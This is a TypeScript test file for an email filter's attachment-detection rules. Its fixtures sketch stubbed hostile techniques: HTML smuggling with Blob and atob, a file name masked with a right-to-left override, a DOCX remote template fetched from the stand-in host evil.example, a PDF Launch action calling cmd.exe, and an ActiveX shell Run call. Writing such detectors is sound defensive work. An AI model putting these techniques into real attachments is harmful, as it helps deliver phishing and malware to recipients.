import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { attachmentRules } from '../../../../delivery/spam/rules/attachments.ts';
import { zipOf } from '../attachments/made-archives.ts';
import { found, testRules, withFiles } from './checks.ts';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const program = latin1(`MZ\x90\0\x03\0\0\0${'\0'.repeat(60)}PE\0\0`);
const file = (name: string, content: Uint8Array | string, text?: string) =>
  withFiles([[name, content]], text);
const ole = (text: string) =>
  Buffer.concat([
    latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
    Buffer.alloc(600),
    Buffer.from(text, 'utf16le'),
  ]);
const page = (body: string) => `<!DOCTYPE html><html><body>${body}</body></html>`;
const report = file('report.pdf', '%PDF-1.7\n1 0 obj <</Type/Catalog /Pages 2 0 R>> endobj');
const photo = file('photo.jpg', latin1('\xff\xd8\xff\xe0\0\x10JFIF\0'));
const letter = file(
  'letter.docx',
  zipOf([
    ['word/document.xml', '<w:document/>'],
    ['[Content_Types].xml', '<Types/>'],
  ]),
);
const image = Buffer.alloc(40_000);
image.write('CD001', 32_769);

testRules(attachmentRules, {
  scriptInAttachment: {
    holds: [
      file('page.html', '<script>1</script>'),
      file('invoice.pdf', page('<form action="https://x.example"><input type="password"></form>')),
      file('drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>'),
      file('pages.zip', zipOf([['a.html', page('<script>1</script>')]])),
    ],
    not: [
      report,
      photo,
      file('page.html', page('<p>minutes</p>')),
      file('drawing.svg', '<svg><path d="M0 0"/></svg>'),
      file('a.txt', 'use <script> with care'),
    ].slice(0, 4),
  },
  smuggledFile: {
    holds: [
      file(
        'doc.html',
        page(
          `<script>var b=new Blob([atob("${'QUJD'.repeat(300)}")]);a.href=URL.createObjectURL(b)</script>`,
        ),
      ),
      file('doc.htm', page('<script>document.write(unescape("%3Chtml%3E"))</script>')),
    ],
    not: [
      file('page.html', page('<script>console.log(1)</script>')),
      file('page.html', page(`<img src="data:image/png;base64,${'QUJD'.repeat(400)}">`)),
      report,
    ],
  },
  executableName: {
    holds: [
      file('invoice.pdf.exe', 'anything'),
      file('a.zip', zipOf([['invoice.js', 'x']])),
      file('a.zip', zipOf([['b.zip', zipOf([['c/run.vbs', 'x']])]])),
      file('a.rar', latin1('Rar!\x1a\x07\x01\0 . setup.exe . ')),
    ],
    not: [
      report,
      photo,
      letter,
      file('www.sender.com', 'a page'),
      file('a.zip', zipOf([['readme.txt', 'x']])),
    ],
  },
  executableContent: {
    holds: [
      file('photo.jpg', program),
      file('tool', latin1('\x7fELF\x02\x01\x01\0')),
      file('a.lnk.txt', latin1(`L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(40)}`)),
      file('a.zip', zipOf([['b.zip', zipOf([['photo.jpg', program]])]])),
      file('a.gz', gzipSync(program)),
      file('note.txt', 'var s = new ActiveXObject("WScript.Shell"); s.Run("x")'),
    ],
    not: [
      report,
      photo,
      letter,
      file('note.txt', 'MZ is how programs begin'),
      file('a.js', 'export const one = 1;'),
    ],
  },
  maskedFileName: {
    holds: [file('invoice\u202efdp.exe', 'x'), file('invoice.pdf.exe', 'x'), file('invoice.pdf', program)],
    not: [report, file('minutes.2025.03.pdf', '%PDF-1.7'), file('archive.tar.gz', 'x')],
  },
  diskImage: {
    holds: [file('invoice.iso', image), file('invoice.dat', image), file('a.vhd', 'conectix\0')],
    not: [report, photo, letter],
  },
  notebookFile: {
    holds: [file('a.dat', latin1('\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3'))],
    not: [report, letter],
  },
  lockedArchive: {
    holds: [
      file('a.zip', zipOf([['invoice.doc', 'x']], { isEncrypted: true }), 'The password is: 4711'),
      file('a.zip', zipOf([['a.pdf', 'x']], { isEncrypted: true }), 'Mot de passe : été2025'),
    ],
    not: [report, letter, file('a.zip', zipOf([['a.txt', 'x']]), 'The password is: 4711')],
  },
  macros: {
    holds: [
      file('a.docx', zipOf([['word/vbaProject.bin', 'x']])),
      file('a.xls', ole('_VBA_PROJECT')),
      file('a.xlsx', zipOf([['xl/macrosheets/sheet1.xml', 'x']])),
      file('a.docm', 'x'),
    ],
    not: [report, letter, file('a.xls', ole('Workbook'))],
  },
  remoteParts: {
    holds: [
      file(
        'a.docx',
        zipOf([
          [
            'word/_rels/settings.xml.rels',
            '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
          ],
        ]),
      ),
      file('a.doc', '{\\rtf1 {\\object\\objocx{\\*\\objdata 0105}}}'),
    ],
    not: [
      letter,
      file('a.rtf', '{\\rtf1 hello}'),
      file(
        'a.docx',
        zipOf([
          ['word/_rels/document.xml.rels', '<Relationship Type="x/hyperlink" Target="https://a.example/"/>'],
        ]),
      ),
    ],
  },
  scriptInPdf: {
    holds: [
      file('a.pdf', '%PDF-1.7 <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
      file('a.pdf', '%PDF-1.7 <</S/L#61unch/F(cmd.exe)>>'),
    ],
    not: [report, file('a.txt', '/JavaScript')],
  },
});

test('the name of an inner file is shown behind the archive’s', () => {
  const message = file('a.zip', zipOf([['b.zip', zipOf([['c/run.vbs', 'x']])]]));
  assert.equal(found(message).get('executableName'), 'a.zip / c/run.vbs');
});
